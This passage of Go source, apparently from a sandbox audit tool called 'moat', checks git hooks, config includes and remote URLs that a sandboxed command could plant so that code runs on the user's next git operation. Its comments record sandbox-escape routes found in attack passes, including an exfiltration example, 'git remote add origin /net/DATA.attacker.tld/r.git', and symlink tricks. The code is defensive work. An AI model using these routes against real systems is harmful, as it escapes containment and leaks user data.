			changed = id.ctime > a.start
		}
		if a.linkedAway(p) {
			changed = true
		}
		a.judgedAs(p, id)
		if real, ok := a.changedActionable(p); changed && ok {
			if a.quarantineReached(dir, real, "a git hook written by the sandboxed command") {
				continue
			}
			remain = true
			continue
		}
		if id.mode&fs.ModeSymlink != 0 && a.linkedHookChanged(p) {
			continue
		}
		remain = true
	}
	return remain
}

// linkedHookChanged judges hook p, a symlink the audit did not take out
// (the user's, or out of its reach), by its way and the file it leads to: git runs that file, and one in a
// writable tree that changed during the run is the command's program (a
// dotfiles layout: ~/.githooks/pre-commit -> ~/dotfiles/git/pre-commit).
// The symlink is taken out where the audit may act on it, else the file.
// It was judged by the symlink's own change time only, and the command's
// rewrite of the file ran on the user's next commit (found by attack pass
// 47).
func (a *auditor) linkedHookChanged(p string) bool {
	// A symlink of the tree on its way that the run made or retargeted
	// (to /proc/self/cwd/..., which leads git and the audit to different
	// places) goes, wherever it leads the audit.
	if link := a.wayLinkToTakeOut(p); link != "" && link != p {
		if real, ok := a.changedActionable(link); ok {
			a.quarantine(real, a.wayLinkWhy(link)+" on the way to a git hook ("+quoteName(p)+")")
			return true
		}
	}
	t, err := evalSymlinks(p)
	if err != nil || !a.inRoots(t) {
		return false
	}
	tid, err := lstatID(t)
	if err != nil || tid.mode.IsDir() || !a.changedAt(t, tid) {
		return false
	}
	why := "a git hook that is a symlink to a file changed during the run (" + quoteName(t) + ")"
	if real, ok := a.changedActionable(p); ok {
		// Reached through the hooks directory's way: another user's
		// symlinked hooks directory in a shared tree led root's audit to
		// the user's own symlinks to files the run changed, and it moved
		// them out (attack pass 52:
		// TestAuditOtherUsersHooksSymlinkToUsersLinks).
		return a.quarantineReached(filepath.Dir(p), real, why)
	}
	a.judgedAs(t, tid)
	if real, ok := a.changedActionable(t); ok {
		return a.quarantineReached(p, real, why)
	}
	return false
}

func (a *auditor) settingsFile(p string) {
	if a.ownPlaceholder(p) {
		a.reachPath(p)
		return
	}
	id, changed, ok := a.changedInRun(p)
	if !ok {
		return
	}
	if swapped := a.linkedAway(p); !changed && !swapped {
		return
	}
	a.judgedAs(p, id)
	if real, ok := a.changedActionable(p); ok {
		a.quarantine(real, "a settings file moat reads: what a sandboxed command writes must never widen a later run")
	}
}

// ownPlaceholder reports moat's own placeholder for a reserved name, as the
// enforcer recorded it (Options.Placeholder: the same inode). Anything
// else at such a path, a socket the command made included (a HEAD that
// makes its directory a repository for git through another one's
// commondir, in a tier whose reservations are not mounts), is judged.
func (a *auditor) ownPlaceholder(p string) bool {
	return a.o.Placeholder != nil && a.o.Placeholder(p)
}

// hiddenRemote judges, whole, a repository that the remote location u
// names by a local path (relative to base, the work tree or the git
// directory) when it lies in the trees inside a git directory.
func (a *auditor) hiddenRemote(u, base string) {
	p, ok := remotePath(u)
	if !ok {
		return // a network URL, scp-like (ssh), or a transport helper (Risk's)
	}
	// As receive-pack's enter_repo finds it: ~ and ~user expanded, then
	// PATH/.git, PATH, PATH.git/.git and PATH.git tried. A relative path
	// is joined as text, not cleaned: git's ".." applies after the
	// symlinks before it (EvalSymlinks below does the same).
	switch {
	case p == "~" || strings.HasPrefix(p, "~/"):
		p = a.o.Home + strings.TrimPrefix(p, "~")
	case strings.HasPrefix(p, "~"):
		name, rest, _ := strings.Cut(p[1:], "/")
		if usr, err := user.Lookup(name); err == nil {
			p = usr.HomeDir + "/" + rest
		}
	case !filepath.IsAbs(p):
		p = base + "/" + p
	}
	var cands []string
	for _, suf := range []string{"/.git", "", ".git/.git", ".git"} {
		cands = append(cands, p+suf)
	}
	for _, c := range cands {
		real, err := evalSymlinks(c)
		if err != nil {
			continue
		}
		if fi, err := stat(real); err == nil && fi.Mode().IsRegular() {
			// enter_repo takes a file there for a .git file and goes
			// where it leads (a remote naming notes.txt, "gitdir:
			// .git/stash/evil.git", ran that repository's pre-receive).
			t, _, _, ok := readGitfile(real)
			if !ok {
				continue
			}
			real = t
		}
		if !a.inRoots(real) {
			continue
		}
		g := real
		if _, err := lstat(filepath.Join(real, "HEAD")); err != nil {
			g = filepath.Join(real, ".git")
			if fi, err := stat(g); err != nil || !fi.IsDir() {
				continue
			}
		}
		if walked := !insideGitAdmin(filepath.Dir(g)) && !inSkippedObjects(filepath.Dir(g)); walked && (!insideGitAdmin(g) && !inSkippedObjects(g) || strings.EqualFold(filepath.Base(g), ".git")) {
			// The walk's: a work tree's .git directory is judged with its
			// work tree, by what changed in it (another user's remote
			// naming root's .git marked it moved in, and root's audit
			// rewrote root's config and moved its hooks out).
			continue
		}
		a.fresh[g] = true
		a.repo(g, "", nil)
	}
}

// remotePath is the local path git's transport takes the remote URL u
// for, and false where git goes to no local path (a network URL, an
// scp-like ssh address, a transport helper; a path holding "://", which
// git refuses). As transport_get and parse_connect_url read it: only
// "file://" (so spelled) of the URLs is local, and it is %XX-decoded and
// its host dropped (file://HOST/PATH is /PATH); anything else with a ":"
// before any "/" is ssh; the rest is a path as written, spaces and a bare
// word too ("mirror" is a directory of the work tree for git push). The
// audit trimmed the value, took file://HOST/PATH for HOST/PATH, decoded
// nothing and took a bare word for a remote's name: each led the user's
// git push to a repository hidden in .git that it never judged (found by
// attack pass 53, TestAuditRemoteURLAsGitReadsIt).
func remotePath(u string) (string, bool) {
	if u == "" {
		return "", false
	}
	if isGitURL(u) {
		if !strings.HasPrefix(u, "file://") {
			return "", false
		}
		host := urlDecode(u[len("file://"):])
		// host_end (brackets kept), then the path from the first "/"
		// after it.
		end := 0
		start := 0
		if i := strings.Index(host, "@["); i >= 0 {
			start = i + 1
		}
		if strings.HasPrefix(host[start:], "[") {
			if j := strings.IndexByte(host[start+1:], ']'); j >= 0 {
				end = start + 1 + j
			}
		}
		i := strings.IndexByte(host[end:], '/')
		if i < 0 {
			return "", false
		}
		return host[end+i:], true
	}
	if strings.Contains(u, "://") {
		return "", false // git dies: "protocol ... is not supported"
	}
	colon, slash := strings.IndexByte(u, ':'), strings.IndexByte(u, '/')
	if colon >= 0 && (slash < 0 || colon < slash) {
		return "", false // scp-like (ssh), or a transport helper (Risk's)
	}
	return u, true
}

// isGitURL is git's is_url: "scheme://", the scheme [A-Za-z0-9][A-Za-z0-9+.-]*.
func isGitURL(u string) bool {
	i := strings.Index(u, ":")
	if i <= 0 || !strings.HasPrefix(u[i:], "://") {
		return false
	}
	for j := 0; j < i; j++ {
		c := u[j]
		alnum := c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9'
		if !alnum && (j == 0 || c != '+' && c != '-' && c != '.') {
			return false
		}
	}
	return true
}

// urlDecode decodes %XX as git's url_decode does (a "%" not followed by
// two hex digits, or "%00", is kept as it is).
func urlDecode(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '%' && i+2 < len(s) {
			if v, ok := hexByte(s[i+1], s[i+2]); ok && v != 0 {
				b.WriteByte(v)
				i += 2
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

func hexByte(h, l byte) (byte, bool) {
	d := func(c byte) (byte, bool) {
		switch {
		case c >= '0' && c <= '9':
			return c - '0', true
		case c >= 'a' && c <= 'f':
			return c - 'a' + 10, true
		case c >= 'A' && c <= 'F':
			return c - 'A' + 10, true
		}
		return 0, false
	}
	hv, ok1 := d(h)
	lv, ok2 := d(l)
	return hv<<4 | lv, ok1 && ok2
}

// inSkippedObjects reports a path below a bare repository's objects
// directories the walk skips (two hex digits, pack, info).
func inSkippedObjects(p string) bool {
	for d := p; d != "/" && d != "."; d = filepath.Dir(d) {
		if gitObjectDir(filepath.Base(d)) && filepath.Base(filepath.Dir(d)) == "objects" {
			if _, err := lstat(filepath.Join(filepath.Dir(filepath.Dir(d)), "HEAD")); err == nil {
				return true
			}
		}
	}
	return false
}

// legacyRemoteURLs are the locations the legacy remote files of git
// directory g name: .git/remotes/NAME ("URL: ..." and "Push: ..." lines
// aside, the URL lines) and .git/branches/NAME (a URL, "#branch" after).
func legacyRemoteURLs(g string) []string {
	var out []string
	for _, d := range []string{"remotes", "branches"} {
		es, err := readDir(filepath.Join(g, d))
		if err != nil {
			continue
		}
		for _, e := range es {
			b, _, err := readSmall(filepath.Join(g, d, e.Name()), maxConfigSize)
			if err != nil {
				continue
			}
			for line := range strings.SplitSeq(string(b), "\n") {
				line = strings.TrimSpace(line)
				if d == "branches" {
					if u, _, _ := strings.Cut(line, "#"); u != "" {
						out = append(out, u)
					}
					break
				}
				if v, ok := strings.CutPrefix(line, "URL:"); ok {
					out = append(out, strings.TrimSpace(v))
				}
			}
		}
	}
	return out
}

// ---- what the cache knew ------------------------------------------------

// knewRepo reports that dir was already a repository (had a HEAD) when the
// previous audit looked.
func (a *auditor) knewRepo(dir string) bool {
	d, ok := a.cache.old(dir)
	return ok && d.flags&flagHEAD != 0
}

// branchIncludes takes out what an includeIf "onbranch:..." of the
// repository's config includes, when it sets what runs a program and the
// run changed the repository's HEAD: git reads such a file only while the
// branch matches, so one a tree shipped (or the user wrote for another
// branch) ran nothing until a git checkout -b in the sandbox made its
// branch current; the file itself unchanged, the audit took it for the
// user's, and the user's next git status ran its core.fsmonitor (attack
// pass 82, TestAuditBranchIncludeActivated). Whether the branch matched
// before the run is not known, so any such include with a risky entry
// goes when HEAD changed. Includes of the config's own level only (a
// nested one's path is relative to its includer).
func (a *auditor) branchIncludes(g, config string, entries []Entry) {
	head := filepath.Join(g, "HEAD")
	hid, err := lstatID(head)
	if err != nil || !a.changed(hid) {
		return
	}
	for _, e := range entries {
		if e.Section() != "includeif" || e.Key() != "path" || !e.HasValue || !strings.HasPrefix(e.Subsection(), "onbranch:") {
			continue
		}
		inc := a.resolve(e.Value, filepath.Dir(config))
		if inc == "" {
			continue
		}
		data, id, err := readSmall(inc, maxConfigSize)
		if err != nil {
			continue
		}
		es, err := a.parseConfig(id, data)
		if err != nil {
			continue
		}
		var risks []string
		for _, ie := range es {
			if r := Risk(ie); r != "" {
				risks = append(risks, ie.Name+": "+r)
			}
		}
		if len(risks) == 0 {
			continue
		}
		if real, ok := a.changedActionable(inc); ok {
			a.quarantine(real, "a git config included on a branch ("+e.Name+") that the run may have made current (it changed HEAD), which sets "+strings.Join(risks, "; "))
		}
	}
}

// completedRepository returns the entries of git's test of a git
// directory (HEAD in g, objects/ and refs/ in common) that the run made
// where there were none: one the previous audit's record of the
// directory did not hold (a bare repository's, which the walk records),
// or, with no record (a .git directory, which the walk leaves to its
// repository, or a tree's first audit), an objects/ or refs/ born during
// the run: git never makes those again in a repository it uses. A HEAD
// with no record is not judged: git replaces HEAD by a new file itself.
func (a *auditor) completedRepository(g, common string) []string {
	var made []string
	for _, e := range []struct{ dir, name string }{{g, "HEAD"}, {common, "objects"}, {common, "refs"}} {
		p := filepath.Join(e.dir, e.name)
		id, err := lstatID(p)
		if err != nil || !a.changed(id) || a.ownPlaceholder(p) {
			continue
		}
		if old, ok := a.cache.old(e.dir); ok {
			knew := slices.Contains(old.subdirs, e.name)
			if e.name == "HEAD" {
				knew = old.flags&flagHEAD != 0
			}
			if !knew {
				made = append(made, p)
			}
			continue
		}
		// (The precise start: a birth time, unlike a change time, says
		// nothing of later changes, and a repository the user made just
		// before the run is the user's.)
		if born, ok := birthTime(p); ok && e.name != "HEAD" && born > a.start {
			made = append(made, p)
		}
	}
	return made
}

// knewRedirect reports that the pointer file already led to target when
// the previous audit looked.
func (a *auditor) knewRedirect(file, target string) bool {
	return a.cache.redirect(file) == target && target != ""
}

// ---- helpers ------------------------------------------------------------

// actionable resolves the directories of p (not p itself: a symlink there
// is what is acted on) and reports whether the result lies in a root and
// was writable during the run: only then may the audit move or rewrite it.
func (a *auditor) actionable(p string) (string, bool) {
	real, ok := a.changedActionable(p)
	return real, ok && !a.o.Protected(real) && !a.o.Protected(p)
}

// protectedFile reports a file that was read-only to the command (by
// either of its names).
func (a *auditor) protectedFile(p string) bool {
	if a.o.Protected(p) {
		return true
	}
	if dir, err := evalSymlinks(filepath.Dir(p)); err == nil {
		return a.o.Protected(filepath.Join(dir, filepath.Base(p)))
	}
	return false
}

// changedActionable is actionable for a file that changed during the run:
// one that was read-only to the command changed all the same (through a
// hard link made in an earlier run, where it was writable), so its
// protection is no reason to keep what it now holds.
func (a *auditor) changedActionable(p string) (string, bool) {
	if f := a.freshAncestor(p); f != "" {
		if link := leadOut(f, p); link != "" && link != p {
			// The symlink that leads out of a directory moved in is what
			// is taken out (leadOut), judged as it is now.
			p = link
		}
	}
	if _, ok := a.judged[p]; !ok {
		// A file no judgment named (judgedAs) is the one there now,
		// before its path is resolved: what is moved out later is that
		// file or nothing.
		if id, err := lstatID(p); err == nil {
			a.judged[p] = id
		}
	}
	if testHookResolve != nil {
		testHookResolve(p)
	}
	dir, err := evalSymlinks(filepath.Dir(p))
	if err != nil {
		return p, false
	}
	real := filepath.Join(dir, filepath.Base(p))
	if id, ok := a.judged[p]; ok {
		a.expectAt(real, id)
	}
	if _, ok := a.dirs[dir]; !ok {
		// What the audit acts on in this directory is acted on in this
		// very one (parentOf): not one moved or swapped into its path
		// since.
		if id, err := lstatID(dir); err == nil {
			a.dirs[dir] = id
		}
	}
	return real, a.inRoots(real)
}

// judgedAs records the file p was judged as (by the walk's path), so that
// what is acted on later, by the path resolved then, is that file
// (changedActionable, expectAt). Without it, the file there when the path
// is resolved is taken.
func (a *auditor) judgedAs(p string, id fileID) {
	if _, ok := a.judged[p]; !ok {
		a.judged[p] = id
	}
}

// testHookResolve, set by tests, runs when the audit resolves the path of
// a file it judged: where a racing user swaps a directory of it.
var testHookResolve func(p string)

// expectAt says that real (changedActionable's path of a file judged by
// another, p) is the file id, the one judged changed: the audit moves it
// out only if it still is (atParent). The judgment looked at p, and the
// path resolved only afterwards: a directory of p swapped in between (a
// symlink, by a user who shares a writable tree with the run) made real
// another file, of the name p has, in any directory inside the trees,
// and the audit moved that one out (TestAuditRaceStaysInTheJudgedDirectory).
func (a *auditor) expectAt(real string, id fileID) {
	if id.ino == 0 && id.dev == 0 {
		return
	}
	if _, ok := a.expect[real]; !ok {
		a.expect[real] = id
	}
}

func (a *auditor) inRoots(p string) bool {
	for _, r := range a.o.Roots {
		if p == r || strings.HasPrefix(p, r+"/") || r == "/" {
			return true
		}
	}
	return false
}

// resolve turns a path value from a git config into an absolute path as
// git would: ~/ is the home directory, a relative path is relative to base.
func (a *auditor) resolve(v, base string) string { return ConfigPath(v, base, a.o.Home) }

// physical resolves p as the kernel (and so git) does: each ".." applies
// to the directory reached so far, after the symlinks before it
// ("link/.." is the parent of link's target, not the directory holding
// link). filepath.EvalSymlinks walks the path that way; a path that does
// not resolve is cleaned as text (nothing is there for git either).
func physical(p string) string {
	if r, err := evalSymlinks(p); err == nil {
		return r
	}
	// Resolve the longest prefix that exists, then add the rest as text.
	parts := strings.Split(p, "/")
	for i := len(parts) - 1; i > 0; i-- {
		head := strings.Join(parts[:i], "/")
		if head == "" {
			head = "/"
		}
		if r, err := evalSymlinks(head); err == nil {
			return filepath.Join(append([]string{r}, parts[i:]...)...)
		}
	}
	return filepath.Clean(p)
}

func mustReal(p string) string {
	if r, err := evalSymlinks(p); err == nil {
		return r
	}
	return p
}

func lstatID(p string) (fileID, error) {
	fi, err := lstat(p)
	if err != nil {
		return fileID{}, err
	}
	return idOf(fi), nil
}

const maxConfigSize = 1 << 20

// maxTreeRewriteFiles bounds the files in the writable trees that the
// user's configuration includes and that globalGitConfig reads for their
// URL rewrites (as the plan reads 1000 files at most: attack pass 59).
const maxTreeRewriteFiles = 1000

// readSmall reads a regular file git would read (following symlinks, as
// git does), refusing anything else (a FIFO, a device, a directory) and
// anything larger than max.
// readConfigEntries reads and parses a git config of at most
// maxConfigSize bytes; false if it cannot.
func readConfigEntries(f string) ([]Entry, bool) {
	b, _, err := readSmall(f, maxConfigSize)
	if err != nil {
		return nil, false
	}
	es, err := ParseConfig(b)
	return es, err == nil
}

func readSmall(p string, max int64) ([]byte, fileID, error) {
	if autofsOnWay(p, true) {
		return nil, fileID{}, &fs.PathError{Op: "open", Path: p, Err: errAutofs}
	}
	f, fi, err := openRead(p)
	if err != nil {
		return nil, fileID{}, err
	}
	id := idOf(fi)
	if f == nil {
		return nil, id, fmt.Errorf("not a regular file (%s)", fi.Mode().Type())
	}
	defer f.Close()
	if fi.Size() > max {
		return nil, id, fmt.Errorf("larger than %d bytes", max)
	}
	// The buffer is the file's size (and one byte to see it grew):
	// io.ReadAll's doubling held twice a 256 MiB index.
	b := make([]byte, 0, fi.Size()+1)
	for int64(len(b)) <= max {
		n, err := f.Read(b[len(b):cap(b)])
		b = b[:len(b)+n]
		if err == io.EOF {
			break
		}
		if err != nil {
			return nil, id, err
		}
		if len(b) == cap(b) {
			b = append(b, 0)[:len(b)]
		}
	}
	if int64(len(b)) > max {
		return nil, id, fmt.Errorf("larger than %d bytes", max)
	}
	return b, id, nil
}

// readGitfile reads a .git file ("gitdir: <path>") exactly as git's
// read_gitfile_gently does: the prefix "gitdir: ", then everything to the
// end but trailing CRs and LFs, up to a NUL (a C string). The audit read
// it more loosely (the first line, spaces trimmed) and judged another
// directory than git went to: "gitdir: ../.git/e \n" is ".git/e " for
// git (found by an attack pass). canonical is false for a file that is
// not "gitdir: PATH" with an optional line end, PATH free of surrounding
// space, CR, LF and NUL: other readers of .git files (libgit2, gitoxide in
// prompts and editors) may read such a file differently again.
func readGitfile(p string) (target string, id fileID, canonical, ok bool) {
	b, id, err := readSmall(p, 64<<10)
	if err != nil {
		return "", id, false, false
	}
	s, found := strings.CutPrefix(string(b), "gitdir: ")
	if !found {
		return "", id, false, false
	}
	t := strings.TrimRight(s, "\r\n")
	if i := strings.IndexByte(t, 0); i >= 0 {
		t = t[:i]
	}
	if t == "" {
		return "", id, false, false
	}
	line := strings.TrimSuffix(strings.TrimSuffix(s, "\n"), "\r")
	canonical = line == t && strings.TrimSpace(t) == t && !strings.ContainsAny(t, "\r\n")
	if !filepath.IsAbs(t) {
		t = filepath.Dir(p) + "/" + t
	}
	canonical = canonical && !perProcess(t)
	return physical(t), id, canonical, true
}

// ownWorktree reports a core.worktree, in config file p of a git
// directory, that names the work tree which names that git directory back
// (its .git file's gitdir): what git submodule writes for each submodule
// (.git/modules/NAME/config: worktree = ../../../NAME). Any other work
// tree is a risk (Risk): git's checkout and reset write there.
func (a *auditor) ownWorktree(p string, e Entry) bool {
	if e.Section()+"."+e.Key() != "core.worktree" || !e.HasValue || e.Value == "" {
		return false
	}
	g := filepath.Dir(p)
	wt := e.Value
	if !filepath.IsAbs(wt) {
		wt = filepath.Join(g, wt)
	}
	// In the trees and outside every git directory: a work tree inside
	// another repository's .git (its hooks, say), with a .git file made to
	// point back, would have the user's checkout write hooks there.
	wt = physical(wt)
	if !a.inRoots(wt) || insideGitAdmin(wt+"/") || filepath.Base(wt) == ".git" {
		return false
	}
	target, _, _, ok := readGitfile(filepath.Join(wt, ".git"))
	return ok && target == physical(g)
}

// readCommondir reads g/commondir, the directory holding the
// repository's shared config, hooks and objects (relative to g), as git's
// get_common_dir_noenv does: trailing CRs and LFs dropped, the rest up to a
// NUL. The audit took a NUL for "no commondir" while git cut the path there
// and went to ../../e2 (found by an attack pass). canonical: as for
// readGitfile.
func readCommondir(g string) (dir string, id fileID, canonical, ok bool) {
	b, id, err := readSmall(filepath.Join(g, "commondir"), 64<<10)
	if err != nil {
		return "", id, false, false
	}
	s := strings.TrimRight(string(b), "\r\n")
	if i := strings.IndexByte(s, 0); i >= 0 {
		s = s[:i]
	}
	if s == "" {
		return "", id, false, false
	}
	line := strings.TrimSuffix(strings.TrimSuffix(string(b), "\n"), "\r")
	canonical = line == s && strings.TrimSpace(s) == s && !strings.ContainsAny(s, "\r\n")
	if !filepath.IsAbs(s) {
		s = g + "/" + s
	}
	canonical = canonical && !perProcess(s)
	return physical(s), id, canonical, true
}

// globalGit is what the system's and the user's git configuration name:
// core.hooksPath values, the files their include.path and
// includeIf.*.path entries name (absolute; every condition counts as met:
// a file the user's git may read) and init.templateDir values.
type globalGit struct {
	hooks, includes, templates []string
	// rewrites are the url.<base>.insteadOf and pushInsteadOf values,
	// in the order git reads them: the user's git applies them to every
	// remote URL (rewrittenURLs).
	rewrites []urlRewrite
}

// globalGitConfig reads the system's and the user's git config files,
// and the files they include, at any depth, as the mounts do
// (linux.readGitFacts): a core.hooksPath or another include set in an
// included file (~/.gitconfig.local, an includeIf for work repositories)
// is the user's configuration as much as one in ~/.gitconfig. An included
// file inTree reports (in a writable tree) is listed but not read here
// for its hooks, templates and includes: the audit judges it first
// (globalInRoot), and what it names counts only as it is then. Its URL
// rewrites (and those of the files it includes) are read, though: the
// remotes are judged during the walk, before globalInRoot, and the user's
// own include lying in a dotfiles tree had its url.<base>.insteadOf
// ignored, so a remote the run set that the user's push took to a
// repository hidden in .git passed for the network's (attack pass 68,
// TestAuditRemoteURLUsersInsteadOf). Applying a rewrite the audit then
// takes out only makes more URLs judged.
// Both ~/.config/git/config and $XDG_CONFIG_HOME/git/config are read: a
// shell of the user's may set the variable where the command's did not.
//
// extra are more files the user's git reads ($GIT_CONFIG_GLOBAL,
// $GIT_CONFIG_SYSTEM of the user's environment: "" for none); they are
// read besides the usual ones, which git reads when the variable is unset
// in another shell of the user's.
func globalGitConfig(home, xdgConfigHome string, inTree func(string) bool, extra ...string) globalGit {
	var g globalGit
	files := []string{"/etc/gitconfig"}
	for _, x := range extra {
		if filepath.IsAbs(x) && !slices.Contains(files, filepath.Clean(x)) {
			files = append(files, filepath.Clean(x))
		}
	}
	if home != "" {
		files = append(files, filepath.Join(home, ".gitconfig"), filepath.Join(home, ".config", "git", "config"))
	}
	if filepath.IsAbs(xdgConfigHome) {
		if x := filepath.Join(xdgConfigHome, "git", "config"); !slices.Contains(files, x) {
			files = append(files, x)
		}
	}
	seen := map[string]bool{}
	// The files in a tree, read for their rewrites alone, each once by
	// the path it really has (another user's include of its directory's
	// config through 20 symlinks to "." names 20^10 paths: attack pass
	// 59), and at most maxTreeRewriteFiles of them.
	treeSeen := map[string]bool{}
	var readTree func(f string, depth int)
	readTree = func(f string, depth int) {
		real := physical(f)
		if depth > 10 || treeSeen[real] || len(treeSeen) >= maxTreeRewriteFiles {
			return
		}
		treeSeen[real] = true
		es, ok := readConfigEntries(f)
		if !ok {
			return
		}
		for _, e := range es {
			if r, ok := urlRewriteOf(e); ok {
				g.rewrites = append(g.rewrites, r)
			}
			if (e.Section() == "include" || e.Section() == "includeif") && e.Key() == "path" && e.HasValue {
				if v := ConfigPath(e.Value, filepath.Dir(f), home); v != "" {
					readTree(filepath.Clean(v), depth+1)
				}
			}
		}
	}
	var read func(f string, depth int)
	read = func(f string, depth int) {
		if depth > 10 || seen[f] {
			return
		}
		seen[f] = true
		if depth == 0 && inTree != nil && inTree(f) {
			// One of the user's own files lying in a writable tree
			// (~/.config/git/config in a writable home that had no
			// ~/.config, $XDG_CONFIG_HOME in a dotfiles tree: the mounts
			// reserve neither) is judged like an include in the tree,
			// not taken for the user's (attack pass 47).
			g.includes = append(g.includes, f)
			readTree(f, depth)
			return
		}
		es, ok := readConfigEntries(f)
		if !ok {
			return
		}
		for _, e := range es {
			if e.Name == "core.hookspath" && e.HasValue {
				g.hooks = append(g.hooks, e.Value)
			}
			if e.Name == "init.templatedir" && e.HasValue && e.Value != "" {
				g.templates = append(g.templates, e.Value)
			}
			if r, ok := urlRewriteOf(e); ok {
				g.rewrites = append(g.rewrites, r)
			}
			if (e.Section() == "include" || e.Section() == "includeif") && e.Key() == "path" && e.HasValue {
				if v := ConfigPath(e.Value, filepath.Dir(f), home); v != "" {
					v = filepath.Clean(v) // as written: changedLinkOnWay must see the symlinks on its way
					if !slices.Contains(g.includes, v) {
						g.includes = append(g.includes, v)
					}
					if inTree == nil || !inTree(v) {
						read(v, depth+1)
					} else {
						readTree(v, depth+1)
					}
				}
			}
		}
	}
	for _, f := range files {
		read(f, 0)
	}
	sort.Strings(g.hooks)
	return g
}

// hiddenURL says why e, a URL of config p (a remote's, a submodule's, an
// alternate's), names a local directory the command could not read, or
// "": the user's next git fetch or submodule update would copy what that
// directory holds into the repository, within the sandbox's reach
// (remote.backup.url at a denyRead repository; found by an attack pass).
func (a *auditor) hiddenURL(p string, e Entry) string {
	if a.o.Hidden == nil || !e.HasValue {
		return ""
	}
	switch {
	case e.Section() == "remote" && (e.Key() == "url" || e.Key() == "pushurl"),
		e.Section() == "submodule" && e.Key() == "url":
	default:
		return ""
	}
	for _, v := range rewrittenURLs(e.Value, true, a.global.rewrites) { // as the user's git rewrites it (attack pass 61)
		if r := a.hiddenLocalURL(p, v); r != "" {
			return r
		}
	}
	return ""
}

// hiddenLocalURL is hiddenURL for one URL u of config p.
func (a *auditor) hiddenLocalURL(p, u0 string) string {
	u, ok := remotePath(u0) // as git reads it (attack pass 53)
	if !ok {
		return "" // a network URL, scp-like (ssh), or a transport helper (Risk's)
	}
	// git resolves a relative one from the work tree (or the git
	// directory): both are judged.
	for _, base := range []string{filepath.Dir(filepath.Dir(p)), filepath.Dir(p)} {
		c := ConfigPath(u, base, a.o.Home)
		if c == "" {
			continue
		}
		if !filepath.IsAbs(u) && !strings.HasPrefix(u, "~") {
			c = base + "/" + u // ".." after a symlink, as the kernel takes it
		}
		c = physical(c)
		if fi, err := stat(c); err == nil && fi.Mode().IsRegular() {
			if t, _, _, ok := readGitfile(c); ok {
				c = t // a .git file: git goes where it leads
			}
		}
		if a.o.Hidden(c) {
			return "names " + quoteName(c) + ", hidden from the sandbox: the user's git fetch would bring what it holds within the sandbox's reach"
		}
	}
	return ""
}

// urlWays are the local paths git may take e, a remote's or a
// submodule's URL in config p (or a branch's remote, which may be a URL),
// for: none for a network URL or a remote's name; a relative one from the
// work tree and from the git directory, as git may take either, ".." after
// a symlink as the kernel takes it.
func (a *auditor) urlWays(p string, e Entry) []string {
	if !e.HasValue {
		return nil
	}
	switch e.Section() + "." + e.Key() {
	case "remote.url", "remote.pushurl", "submodule.url",
		// a remote's name, or a URL where no remote has that name
		"remote.pushdefault", "branch.pushremote", "branch.remote":
	default:
		return nil
	}
	var ways []string
	// Each as the user's git rewrites it (url.<base>.insteadOf: attack
	// pass 61).
	for _, v := range rewrittenURLs(e.Value, true, a.global.rewrites) {
		u, ok := remotePath(v)
		if !ok || !strings.Contains(u, "/") {
			continue // a remote's name (or a path in the work tree, the walk's)
		}
		for _, base := range []string{filepath.Dir(filepath.Dir(p)), filepath.Dir(p)} {
			c := u
			switch {
			case strings.HasPrefix(u, "~"):
				c = ConfigPath(u, base, a.o.Home)
			case !filepath.IsAbs(u):
				c = base + "/" + u
			}
			if c != "" {
				ways = append(ways, c)
			}
		}
	}
	return ways
}

// procURL says why e (urlWays) is a local path through /proc or /dev/fd,
// or "": git resolves such a path in its own process (/proc/self/cwd is
// the work tree of the user's git push), the audit in moat's, so it judged
// another place than git goes to: a bare repository hidden in .git, pushed
// to as /proc/self/cwd/.git/mirror.git, ran its pre-receive hook (found by
// attack pass 53; TestAuditRemoteURLThroughProc).
func (a *auditor) procURL(p string, e Entry) string {
	if slices.ContainsFunc(a.urlWays(p, e), procOnWay) {
		return "names " + quoteName(e.Value) + ", a path through /proc or /dev/fd: git resolves it in its own process, to a repository moat cannot judge"
	}
	return ""
}

// autofsURL says why e (urlWays) is a local path below an autofs mount
// nothing covers, or "": the user's git push or fetch would ask the host's
// automounter for a name the command chose (git remote add origin
// /net/DATA.attacker.tld/r.git; attack pass 56, autofs.go).
func (a *auditor) autofsURL(p string, e Entry) string {
	if slices.ContainsFunc(a.urlWays(p, e), func(c string) bool { return autofsOnWay(c, true) }) {
		return "names " + quoteName(e.Value) + ", " + autofsWhere
	}
	return ""
}

// autofsWhere says what a path below an autofs mount nothing covers
// does.
const autofsWhere = "a path below an autofs mount nothing is mounted on: a lookup there asks the host's automounter (a root daemon) for a name the sandboxed command chose, past the run's network policy"

// autofsWhy is the reason a pointer (what) that leads below an autofs
// mount nothing covers is taken out for.
func autofsWhy(what string) string {
	return what + " that leads to " + autofsWhere + " (moat looks no further)"
}

// walkWay resolves p as the kernel resolves it (each ".." applying to the
// directory reached so far, a symlink's text put in its place) and calls
// step with each component reached: its path, its lstat, and, for a
// symlink, where its text leads (a path). It returns the first path step
// accepts, "" if none; loop is true when more than 40 symlinks were met
// (the kernel's ELOOP). A component that is not there ends the walk, and
// so does one whose lookup would ask the host's automounter for its name
// (autofs.go: a planted pointer to /net/NAME, attack pass 56).
func walkWay(p string, step func(next string, fi fs.FileInfo, target string) bool) (found string, loop bool) {
	if !filepath.IsAbs(p) {
		return "", false
	}
	auto := autofsMounts()
	todo := strings.Split(strings.TrimPrefix(p, "/"), "/")
	d := "/"
	for n := 0; len(todo) > 0; {
		c := todo[0]
		todo = todo[1:]
		switch c {
		case "", ".":
			continue
		case "..":
			d = filepath.Dir(d)
			continue
		}
		if auto.asks(d, c) {
			return "", false
		}
		next := filepath.Join(d, c)
		fi, err := os.Lstat(next)
		if err != nil {
			return "", false
		}
		if fi.Mode()&fs.ModeSymlink == 0 {
			if step(next, fi, "") {
				return next, false
			}
			d = next
			continue
		}
		if n++; n > 40 {
			return "", true
		}
		t, err := os.Readlink(next)
		if err != nil || step(next, fi, linkTarget(d, t)) {
			return next, false
		}
		if filepath.IsAbs(t) {
			d = "/"
		}
		todo = append(strings.Split(t, "/"), todo...)
	}
	return "", false
}

// changedLinkOnWay is the first symlink inside the roots met while p is
// resolved as the kernel resolves it that changed during the run, or was
// moved in with a directory, or leads through /proc or /dev/fd (resolved
// in moat's process here and in git's there, to other places: found by an
// attack pass, TestAuditProcSelfSymlink); "" if none.
func (a *auditor) changedLinkOnWay(p string) string {
	found, _ := walkWay(p, func(next string, fi fs.FileInfo, target string) bool {
